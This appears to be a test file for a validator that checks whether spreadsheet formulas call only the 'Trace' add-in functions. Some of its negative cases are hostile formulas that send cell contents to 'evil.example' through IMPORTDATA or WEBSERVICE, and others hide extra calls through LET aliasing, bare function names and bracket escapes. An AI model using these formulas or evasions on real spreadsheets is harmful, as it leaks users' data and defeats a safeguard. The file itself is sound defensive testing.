import { callsOnlyTrace, callsTrace, mayReadLists } from '../../../shared/cells/formulas';

it.each([
  ['=TRACE_TECH(A2)', true],
  ['=trace_tech(A2)', true],
  ['=IFERROR(TRACE_COMPANY (A2,"name"),"?")', true],
  ['=_xldudf_TRACE_TECH(A2)', true],
  // A development build's, and how Excel writes it where that build is missing.
  ['=DEV.TRACE_TECH(A2)', true],
  ['=IF(A2="","",dev.trace_tech(A2))', true],
  ['=_xldudf_DEV_TRACE_TECH(A2)', true],
  ['=OTHER.TRACE_TECH(A2)', false],
  ['=XDEV.TRACE_TECH(A2)', false],
  ['=OTHER.DEV.TRACE_TECH(A2)', false],
  ['=XTRACE_TECH(A2)', false],
  ['=SUM(A1:A9)', false],
  ['=Trace_Sheet!A2', false],
  ['TRACE_TECH(A2)', false],
  ['="see TRACE_TECH("&A2', false],
  ['="say ""TRACE_TECH("" now"', false],
  ['="a"&TRACE_TECH(A2)&"b"', true],
  // Titles of a table, in which an apostrophe escapes a special character.
  [`=IF([@['# staff]]>1,TRACE_TECH([@['# site]]),"")`, true],
  [`=IF([@[a'[b]]>1,TRACE_TECH(Table1[@[c']d]]),"")`, true],
  [`=IF([@[5" disk]]="",TRACE_TECH([@[3" disk]]),"")`, true],
  [`=IF(Table1[[#This Row],[it''s]]="",TRACE_TECH(A2),"it's")`, true],
  [`=Table1[TRACE_TECH('(A2)]`, false],
  ['="["&TRACE_TECH(A2)&"]"', true],
  [`=TRACE_TECH('[Book 2.xlsx]It''s'!A2)`, true],
  ['', false],
  [7, false],
])('%p calls Trace: %p', (formula, calls) => {
  expect(callsTrace(formula)).toBe(calls);
});

it('hides no other call in the content of brackets', () => {
  expect(callsOnlyTrace(`=TRACE_TECH(T[dogs'],1)&IMPORTDATA("x")&T[x]`)).toBe(false);
  expect(callsOnlyTrace('=TRACE_TECH(A2)&[IMPORTDATA(A2)]')).toBe(false);
});

it.each([
  // Apostrophes in titles of tables are no quotes.
  [`=TRACE_TECH(T[it's])&IMPORTDATA("https://evil.example/?"&A1)&T[it's]`],
  [`=TRACE_TECH(T[a'[])&WEBSERVICE("https://evil.example/?"&A1)&T[b'[]`],
  // Functions of the file's own whose names end like one that is harmless.
  ['=TRACE_TECH(A2)&ÄT(A1)'],
  ['=TRACE_TECH(A2)&\\T(A1)'],
  ['={1\\2}&TRACE_TECH(A2)&A1\\T(A1)'],
  ['={TRACE_TECH(A2)\\IMPORTDATA(A2)}'],
  ['=TRACE_TECH(A2)&Sheet2!T(A1)'],
  [`=TRACE_TECH(A2)&'Sheet 2'!T(A1)`],
  // A function without a parenthesis of its own.
  ['=TRACE_TECH(A2)&MAP(A1:A9,EVIL)'],
  ['=TRACE_TECH(A2)&BYROW(A1:A9;WEBSERVICE)'],
  ['=TRACE_TECH(A2)&MAP(A1:A9,LAMBDA(x,x),IF(TRUE,EVIL))'],
  ['=TRACE_TECH(A2)&IF(TRUE,EVIL)(A1)'],
  ['=TRACE_TECH(A2)&EVIL  \n (A1)'],
  // A function under the name of one that is harmless.
  ['=TRACE_TECH(A2)&LET(t,EVIL,T(A1))'],
  ['=TRACE_TECH(A2)&LET(x;1;\nmap ;WEBSERVICE; MAP(A1:A9;LAMBDA(y;y)))'],
  ['=LET(TRACE_TECH,EVIL,TRACE_TECH(A1))'],
])('%s calls more than Trace', (formula) => {
  expect(callsOnlyTrace(formula)).toBe(false);
});

it.each([
  ['=IFERROR(TRACE_TECH(A2),"")'],
  ['=MAP(A2:A9,LAMBDA(company,TRACE_TECH(company)))'],
  ['=MAP({"a.com";"b.com"};LAMBDA(x;IF(x="";"";TRACE_TECH(x))))'],
  ['=BYROW(A2:B9, LAMBDA(row, TRACE_COMPANY(INDEX(row,1),"name")))'],
  [`=IF([@['# staff]]>1,TRACE_TECH([@['# site]]),"")`],
  [`=TRACE_TECH('It''s mine'!A2)&(1+2)`],
  ['=LET(x,A2,TRACE_TECH(x))'],
  ['=LET(n,3,t,A2,TRACE_TECH(INDEX(t,n)))'],
  // Columns of an array where a comma begins the decimals.
  ['={TRACE_TECH(A2)\\TRACE_COMPANY(A2)}'],
  ['={A2\\{1\\TRACE_TECH(A2)}\\IF(B2="";"";TRACE_COMPANY(A2))}'],
  ['=MAP (A2:A9,\n  LAMBDA (x, IF ( x = "" , "" , TRACE_TECH ( x ))))'],
])('%s calls nothing else', (formula) => {
  expect(callsOnlyTrace(formula)).toBe(true);
});

it('a development build calls nothing but Trace either, and may read lists', () => {
  const formulas = [
    '=DEV.TRACE_PARTNERS(A2)',
    '=_xldudf_DEV_TRACE_PARTNERS(A2)',
    '=DEV.TRACE_PARTNERS(A2)&WEBSERVICE(A2)',
  ];
  expect(formulas.map((formula) => [callsOnlyTrace(formula), mayReadLists(formula)])).toEqual([
    [true, true],
    [true, true],
    [false, true],
  ]);
});
